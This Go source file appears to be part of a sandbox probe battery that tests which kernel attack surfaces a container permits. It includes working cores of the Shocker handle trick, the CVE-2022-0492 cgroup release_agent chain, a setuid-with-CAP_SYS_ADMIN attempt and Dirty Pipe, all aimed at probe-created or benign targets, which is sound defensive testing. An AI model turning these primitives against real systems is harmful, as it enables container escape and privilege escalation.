//go:build linux && amd64

package prober

import (
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// kernelProbes are the kernel-attack-surface probes (BATTERY.md rows 13,
// 20, 25, 28–36, 38–41). Each makes raw system calls with arguments chosen
// to fail harmlessly *after* the kernel's permission check, so that an
// allowed call shows as EINVAL/ENOENT/EBADF (or success on an object that
// dies with the process) and a refused one as EPERM/EACCES/ENOSYS. Data maps
// each attempt to "ok" or the errno's name.
func kernelProbes() map[string]Func {
	return map[string]Func{
		"sys":        sysProbe,
		"sweep":      sweep,
		"sweepchild": sweepChild,
	}
}

// res names a raw syscall's outcome.
func res(e syscall.Errno) string {
	if e != 0 {
		return errName(e)
	}
	return "ok"
}

func errName(e syscall.Errno) string {
	if n := unix.ErrnoName(e); n != "" {
		return n
	}
	return fmt.Sprintf("errno(%d)", int(e))
}

func errOf(err error) string {
	if err == nil {
		return "ok"
	}
	var en syscall.Errno
	if errors.As(err, &en) {
		return errName(en)
	}
	return err.Error()
}

// sys6 makes a raw syscall; a file descriptor it returns is closed.
func sys6(nr uintptr, a ...uintptr) string {
	var x [6]uintptr
	copy(x[:], a)
	r, _, e := unix.Syscall6(nr, x[0], x[1], x[2], x[3], x[4], x[5])
	switch nr {
	case unix.SYS_BPF, unix.SYS_USERFAULTFD, unix.SYS_IO_URING_SETUP, unix.SYS_PERF_EVENT_OPEN:
		if e == 0 && r > 2 {
			unix.Close(int(r))
		}
	}
	return res(e)
}

func ptr[T any](p *T) uintptr { return uintptr(unsafe.Pointer(p)) }

func cstr(s string) uintptr {
	b, _ := unix.BytePtrFromString(s)
	return uintptr(unsafe.Pointer(b))
}

// sysProbe runs the attempts of one group (args[0]); args[1] is a host pid
// for "ptrace".
func sysProbe(args []string) Report {
	d := map[string]string{}
	switch strArg(args, 0, "") {
	case "shocker": // row 13
		shocker(d)
	case "cgroup-release": // row 20
		d["clone(NEWUSER|NEWNS|NEWCGROUP)"] = cgroupRelease(d)
	case "cgroup-release-child":
		cgroupReleaseChild(d)
	case "setuid": // row 25
		setuidProbe(d)
	case "ptrace": // row 28
		pid := intArg(args, 1, 1)
		d["ptrace(SEIZE)"] = sys6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0)
		if d["ptrace(SEIZE)"] == "ok" {
			unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, 0, 0, 0)
		}
		buf := make([]byte, 8)
		local := []unix.Iovec{{Base: &buf[0], Len: 8}}
		remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
		_, err := unix.ProcessVMReadv(pid, local, remote, 0)
		d["process_vm_readv"] = errOf(err)
		d["kill(0)"] = errOf(unix.Kill(pid, 0))
	case "keyring": // row 29
		for name, id := range map[string]int{"@u": unix.KEY_SPEC_USER_KEYRING, "@us": unix.KEY_SPEC_USER_SESSION_KEYRING, "@s": unix.KEY_SPEC_SESSION_KEYRING} {
			d["keyctl(GET_KEYRING_ID,"+name+")"] = sys6(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, neg(id), 0)
		}
		d["add_key(user)"] = sys6(unix.SYS_ADD_KEY, cstr("user"), cstr("wovyr-battery"), cstr("x"), 1, neg(unix.KEY_SPEC_PROCESS_KEYRING))
		b, err := os.ReadFile("/proc/keys")
		d["/proc/keys"] = fmt.Sprintf("%s lines=%d", errOf(err), strings.Count(string(b), "\n"))
	case "bpf": // row 30
		attr := [16]uint32{2 /* ARRAY */, 4, 4, 1}
		d["bpf(MAP_CREATE)"] = sys6(unix.SYS_BPF, unix.BPF_MAP_CREATE, ptr(&attr), unsafe.Sizeof(attr))
		insns := [2]uint64{0xb7 /* mov r0, 0 */, 0x95 /* exit */}
		lic := []byte("GPL\x00")
		pa := struct {
			typ, cnt   uint32
			insns, lic uint64
			pad        [96]byte
		}{typ: 1 /* SOCKET_FILTER */, cnt: 2, insns: uint64(ptr(&insns)), lic: uint64(uintptr(unsafe.Pointer(&lic[0])))}
		d["bpf(PROG_LOAD)"] = sys6(unix.SYS_BPF, unix.BPF_PROG_LOAD, ptr(&pa), unsafe.Sizeof(pa))
	case "userfaultfd": // row 31
		d["userfaultfd(0)"] = sys6(unix.SYS_USERFAULTFD, unix.O_CLOEXEC)
		d["userfaultfd(USER_MODE_ONLY)"] = sys6(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|1)
	case "io_uring": // row 32
		var p [120]byte
		d["io_uring_setup"] = sys6(unix.SYS_IO_URING_SETUP, 4, ptr(&p))
	case "perf": // row 33
		a := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK, Bits: unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
		a.Size = uint32(unsafe.Sizeof(a))
		d["perf_event_open(sw,self)"] = sys6(unix.SYS_PERF_EVENT_OPEN, ptr(&a), 0, ^uintptr(0), ^uintptr(0), 0)
	case "modules": // row 34
		d["init_module"] = sys6(unix.SYS_INIT_MODULE, 0, 0, cstr(""))
		d["finit_module"] = sys6(unix.SYS_FINIT_MODULE, ^uintptr(0), cstr(""), 0)
		for name, fam := range exoticFamilies {
			d["socket("+name+")"] = trySocket(fam)
		}
	case "boot": // row 35: invalid past the permission check, or read-only
		d["kexec_load"] = sys6(unix.SYS_KEXEC_LOAD, 0, 1<<20, 0, 0)
		d["reboot"] = sys6(unix.SYS_REBOOT, 1, 2, unix.LINUX_REBOOT_CMD_CAD_OFF)
		d["swapon"] = sys6(unix.SYS_SWAPON, cstr("/nonexistent-wovyr-swap"), 0)
		d["acct"] = sys6(unix.SYS_ACCT, cstr("/nonexistent-wovyr-acct"))
		d["syslog(SIZE_BUFFER)"] = sys6(unix.SYS_SYSLOG, unix.SYSLOG_ACTION_SIZE_BUFFER, 0, 0)
		f, err := os.Open("/dev/kmsg")
		d["open(/dev/kmsg)"] = errOf(err)
		if err == nil {
			f.Close()
		}
	case "clock": // row 36: every call is invalid past its permission check
		tz := struct{ minuteswest, dsttime int32 }{minuteswest: 100000}
		d["settimeofday(tz)"] = sys6(unix.SYS_SETTIMEOFDAY, 0, ptr(&tz))
		tx := unix.Timex{Modes: unix.ADJ_TICK, Tick: 1}
		d["adjtimex(ADJ_TICK)"] = sys6(unix.SYS_ADJTIMEX, ptr(&tx))
		tx = unix.Timex{Modes: unix.ADJ_TICK, Tick: 1}
		d["clock_adjtime(REALTIME,ADJ_TICK)"] = sys6(unix.SYS_CLOCK_ADJTIME, unix.CLOCK_REALTIME, ptr(&tx))
		ts := unix.Timespec{Sec: 1, Nsec: 2e9}
		d["clock_settime(REALTIME,bad)"] = sys6(unix.SYS_CLOCK_SETTIME, unix.CLOCK_REALTIME, ptr(&ts))
	case "raw": // row 38
		for name, s := range map[string][3]int{
			"AF_PACKET/SOCK_RAW":    {unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))},
			"AF_PACKET/SOCK_DGRAM":  {unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_ARP))},
			"AF_INET/SOCK_RAW/ICMP": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP},
			"AF_INET/SOCK_RAW/RAW":  {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
			"AF_INET6/SOCK_RAW":     {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
			"AF_INET/SOCK_PACKET":   {unix.AF_INET, unix.SOCK_PACKET, int(htons(unix.ETH_P_ALL))},
		} {
			fd, err := unix.Socket(s[0], s[1], s[2])
			if err == nil {
				unix.Close(fd)
			}
			d["socket("+name+")"] = errOf(err)
		}
	case "x32": // row 40: refused calls through the x32 ABI and int 0x80
		const x32 = 0x40000000
		d["x32 getpid"] = sys6(unix.SYS_GETPID | x32)
		d["x32 unshare(0)"] = sys6(unix.SYS_UNSHARE | x32)
		d["x32 keyctl(GET_KEYRING_ID,@s)"] = sys6(unix.SYS_KEYCTL|x32, unix.KEYCTL_GET_KEYRING_ID, neg(unix.KEY_SPEC_SESSION_KEYRING))
		d["int80 getpid"] = res80(int80(20, 0, 0, 0))
		d["int80 unshare(0)"] = res80(int80(310, 0, 0, 0))
		d["int80 keyctl(GET_KEYRING_ID,@s)"] = res80(int80(288, unix.KEYCTL_GET_KEYRING_ID, neg(unix.KEY_SPEC_SESSION_KEYRING)&0xffffffff, 0))
	case "dirtypipe": // row 41
		dirtyPipe(d)
	default:
		return Report{Errno: "unknown group " + strArg(args, 0, "")}
	}
	return Report{Count: len(d), Data: d}
}

func res80(r uintptr) string {
	if e := int32(r); e < 0 && e > -4096 {
		return errName(syscall.Errno(-e))
	}
	return "ok"
}

// neg passes a (negative) special id as a syscall argument.
func neg(v int) uintptr { return uintptr(int64(v)) }

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// trySocket opens a socket of family fam with the first type it supports.
func trySocket(fam int) string {
	var err error
	for _, typ := range []int{unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET, unix.SOCK_STREAM} {
		var fd int
		fd, err = unix.Socket(fam, typ, 0)
		if err == nil {
			unix.Close(fd)
			return "ok"
		}
		if !errors.Is(err, unix.ESOCKTNOSUPPORT) && !errors.Is(err, unix.EPROTOTYPE) && !errors.Is(err, unix.EPROTONOSUPPORT) && !errors.Is(err, unix.EOPNOTSUPP) {
			break
		}
	}
	return errOf(err)
}

// exoticFamilies are socket families a tool never needs; several have had
// privilege-escalation bugs reachable from unprivileged users.
var exoticFamilies = map[string]int{
	"AF_KEY": unix.AF_KEY, "AF_PACKET": unix.AF_PACKET, "AF_APPLETALK": unix.AF_APPLETALK, "AF_AX25": unix.AF_AX25,
	"AF_X25": unix.AF_X25, "AF_ATMPVC": unix.AF_ATMPVC, "AF_DECnet": unix.AF_DECnet, "AF_ROSE": unix.AF_ROSE,
	"AF_NETROM": unix.AF_NETROM, "AF_LLC": unix.AF_LLC, "AF_CAN": unix.AF_CAN, "AF_TIPC": unix.AF_TIPC,
	"AF_BLUETOOTH": unix.AF_BLUETOOTH, "AF_RDS": unix.AF_RDS, "AF_IEEE802154": unix.AF_IEEE802154,
	"AF_PHONET": unix.AF_PHONET, "AF_CAIF": unix.AF_CAIF, "AF_ALG": unix.AF_ALG, "AF_NFC": unix.AF_NFC,
	"AF_VSOCK": unix.AF_VSOCK, "AF_KCM": unix.AF_KCM, "AF_QIPCRTR": unix.AF_QIPCRTR, "AF_SMC": unix.AF_SMC,
	"AF_XDP": unix.AF_XDP, "AF_MCTP": unix.AF_MCTP,
}

// shocker is row 13: open_by_handle_at with the sandbox's own root handle
// and with Shocker's guess (ext4 root inode 2, generation 0).
func shocker(d map[string]string) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	d["name_to_handle_at"] = errOf(err)
	if err == nil {
		fd, err := unix.OpenByHandleAt(unix.AT_FDCWD, h, unix.O_RDONLY)
		d["open_by_handle_at(own /)"] = errOf(err)
		if err == nil {
			unix.Close(fd)
		}
	}
	raw := make([]byte, 8)
	raw[0] = 2
	fd, err := unix.OpenByHandleAt(unix.AT_FDCWD, unix.NewFileHandle(1, raw), unix.O_RDONLY)
	d["open_by_handle_at(ino 2)"] = errOf(err)
	if err == nil {
		unix.Close(fd)
	}
}

// cgroupRelease is CVE-2022-0492's chain: a child in a new user, mount and
// cgroup namespace (unshare -UrmC) mounts cgroup v1 and writes
// release_agent. It never changes release_agent: it writes back what it read.
func cgroupRelease(d map[string]string) string {
	cmd := exec.Command("/proc/self/exe", "probe", "sys", "cgroup-release-child")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}}}
	out, err := cmd.Output()
	if err != nil && len(out) == 0 {
		return errOf(err)
	}
	var rep Report
	if err := json.Unmarshal(out, &rep); err != nil {
		return fmt.Sprintf("child printed %.80q", out)
	}
	maps.Copy(d, rep.Data)
	return "ok"
}

// cgroupReleaseChild runs inside the new namespaces.
func cgroupReleaseChild(d map[string]string) {
	dir, err := os.MkdirTemp("", "wovyr-cg")
	if err != nil {
		d["mkdir"] = errOf(err)
		return
	}
	defer os.Remove(dir)
	for _, c := range []string{"rdma", "misc", "memory"} {
		err := unix.Mount("cgroup", dir, "cgroup", 0, c)
		d["mount(cgroup,"+c+")"] = errOf(err)
		if err != nil {
			continue
		}
		old, err := os.ReadFile(dir + "/release_agent")
		if err == nil {
			err = os.WriteFile(dir+"/release_agent", old, 0)
		}
		d["write(release_agent,"+c+")"] = errOf(err)
		unix.Unmount(dir, unix.MNT_DETACH)
		return
	}
}

// setuidProbe makes a setuid-root copy of this binary, tries to give it a
// file capability, runs it and reports the capabilities it holds.
func setuidProbe(d map[string]string) {
	var dst string
	for _, dir := range []string{"/workspace", "/tmp", os.TempDir(), "."} {
		if f, err := os.CreateTemp(dir, "wovyr-suid-"); err == nil {
			dst = f.Name()
			f.Close()
			break
		}
	}
	if dst == "" {
		d["copy"] = "no writable directory"
		return
	}
	defer os.Remove(dst)
	b, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		err = os.WriteFile(dst, b, 0o755)
	}
	d["copy"] = errOf(err)
	d["chmod(04755)"] = errOf(unix.Chmod(dst, 0o4755))
	// VFS_CAP_REVISION_2: CAP_SYS_ADMIN permitted, effective bit set.
	capv := []byte{0x01, 0x00, 0x00, 0x02, 0, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	d["setxattr(security.capability)"] = errOf(unix.Setxattr(dst, "security.capability", capv, 0))
	out, err := exec.Command(dst, "probe", "self").Output()
	if err != nil {
		d["exec"] = errOf(err)
		return
	}
	var rep Report
	if err := json.Unmarshal(out, &rep); err != nil {
		d["exec"] = fmt.Sprintf("printed %.80q", out)
		return
	}
	d["CapEff"], d["CapPrm"] = rep.Data["CapEff"], rep.Data["CapPrm"]
}

// dirtyPipe is CVE-2022-0847 against a read-only file the probe itself
// created in the sandbox's /tmp: splice one byte of it into a pipe whose
// buffers carry PIPE_BUF_FLAG_CAN_MERGE, write into the pipe, and see
// whether the file changed.
func dirtyPipe(d map[string]string) {
	f, err := os.CreateTemp("/tmp", "wovyr-dirtypipe-")
	if err != nil {
		d["create"] = errOf(err)
		return
	}
	name := f.Name()
	defer os.Remove(name)
	f.WriteString("AAAAAAAAAAAAAAAA")
	f.Close()
	os.Chmod(name, 0o444)
	ro, err := os.Open(name)
	if err != nil {
		d["open"] = errOf(err)
		return
	}
	defer ro.Close()
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		d["pipe"] = errOf(err)
		return
	}
	defer unix.Close(p[0])
	defer unix.Close(p[1])
	sz, _ := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	page := make([]byte, 4096)
	for n := 0; n < sz; n += len(page) {
		unix.Write(p[1], page)
	}
	for n := 0; n < sz; n += len(page) {
		unix.Read(p[0], page)
	}
	off := int64(0)
	_, err = unix.Splice(int(ro.Fd()), &off, p[1], nil, 1, 0)
	d["splice"] = errOf(err)
	_, err = unix.Write(p[1], []byte("PWNED"))
	d["write(pipe)"] = errOf(err)
	b, _ := os.ReadFile(name)
	d["content"] = string(b)
}
